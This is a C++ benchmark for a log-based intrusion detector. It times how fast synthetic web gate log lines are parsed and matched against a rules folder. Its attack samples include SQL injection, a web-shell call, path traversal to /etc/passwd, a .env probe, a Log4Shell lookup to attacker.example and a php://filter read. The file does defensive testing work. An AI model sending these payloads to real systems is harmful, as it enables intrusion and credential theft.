// What detection costs: gate lines read and matched against all of rules/, beside reading them alone; and how long one line takes.
// The mix: of 20 lines 19 are citizens', one an attack. bench_detect [RULES_FOLDER]
#include <fmt/format.h>

#include <algorithm>
#include <array>
#include <filesystem>
#include <string>
#include <vector>

#include "detect/detector.hpp"
#include "event/gate_log.hpp"
#include "model/gate_log.hpp"
#include "support/cpu.hpp"

namespace {
using namespace kulla;
using bench::cpu;

constexpr std::size_t lines_made = 20'000;
constexpr int rounds = 10;
constexpr double wanted_rate = 10'000;   // lines a second that the daemon must keep up with
constexpr double limit_us = 1000;        // of one line, p99

constexpr std::array<const char*, 10> citizens{"GET / 200",
                                               "GET /assets/style.css 200",
                                               "GET /search?q=opening+hours 200",
                                               "GET /search?q=k%C3%ABrkes%C3%AB+p%C3%ABr+leje 200",
                                               "POST /login 200",
                                               "POST /upload 201",
                                               "GET /uploads/00017-kerkesa.pdf 200",
                                               "GET /permits/apply?step=2&back=/permits/list 200",
                                               "GET /favicon.ico 404",
                                               "GET /api/v1/cases/42?fields=emri;mbiemri 200"};
constexpr std::array<const char*, 6> attacks{"GET /search?q=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20 200",
                                             "GET /uploads/00001-holiday.php?cmd=list 200",
                                             "GET /assets/..%2f..%2f..%2fetc/passwd 404",
                                             "GET /.env 404",
                                             "GET /?x=${jndi:ldap://attacker.example/a} 200",
                                             "GET /index.php?page=php://filter/convert.base64-encode/resource=config 200"};

std::string line_of(std::size_t n) {
  const std::string_view request = n % 20 == 7 ? attacks[n / 20 % attacks.size()] : citizens[n % citizens.size()];
  const auto method = request.substr(0, request.find(' ')), status = request.substr(request.rfind(' ') + 1);
  const auto uri = request.substr(method.size() + 1, request.size() - method.size() - status.size() - 2);
  return fmt::format(
      R"({} {} 4 198.51.{}.{} {} e-tax.example {} {} 2048 service-{} pass -- "{}" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/103.0.0.0 Safari/537.36" "https://e-tax.example/" "")",
      gate_log::version, 1'657'843'200'000'000 + n * 100, n / 250 % 250, n % 250, method, uri.substr(0, uri.find('?')), status, n % 1225,
      uri);
}

double rate(const std::vector<std::string>& lines, const auto& each) {
  const double start = cpu();
  for (int round = 0; round < rounds; ++round)
    for (const auto& line : lines) each(line);
  return static_cast<double>(lines.size() * rounds) / (cpu() - start);
}
}  // namespace

int main(int argc, char** argv) {
  const std::filesystem::path rules =
      argc > 1 ? std::filesystem::path{argv[1]} : std::filesystem::path{__FILE__}.parent_path().parent_path() / "rules";
  const auto made = detect::Detector::make({.rules = {rules}}, Pseudonyms{random_digest()}, SensorId{"gate"});
  if (!made) return fmt::print(stderr, "{}\n", made.error().message()), 2;
  auto& detector = **made;
  std::vector<std::string> lines;
  for (std::size_t n = 0; n < lines_made; ++n) lines.push_back(line_of(n));

  event::Event event;
  std::uint64_t bad = 0, alerts = 0;
  const auto read = [&](const std::string& line) { bad += !event::read_gate_line(line, {}, event); };
  const auto look = [&](const std::string& line) {
    read(line);
    detector.look(event, line, [&](const detect::Detection&) { ++alerts; });
  };
  for (const auto& line : lines) look(line);  // buffers and RE2's automata have grown
  const double reading = rate(lines, read), both = rate(lines, look);

  std::vector<double> took;
  for (const auto& line : lines) {
    const double start = cpu();
    look(line);
    took.push_back((cpu() - start) * 1e6);
  }
  std::sort(took.begin(), took.end());
  const double p99 = took[took.size() * 99 / 100];
  fmt::print("detect: {} rules ({} rejected), {} alerts, {} suppressed, {} bad lines\n", detector.rules(), detector.rejected().size(),
             alerts, detector.suppressed(), bad);
  fmt::print("  read alone        {:>10.0f} lines/s\n", reading);
  fmt::print("  read and detect   {:>10.0f} lines/s   {:.3f} of reading alone; wanted {:.0f} on one core\n", both, both / reading,
             wanted_rate);
  fmt::print("  one line          p50 {:.1f} us   p99 {:.1f} us   max {:.1f} us   limit {:.0f} us\n", took[took.size() / 2], p99,
             took.back(), limit_us);
  return both >= wanted_rate && p99 <= limit_us && bad == 0 ? 0 : 1;
}
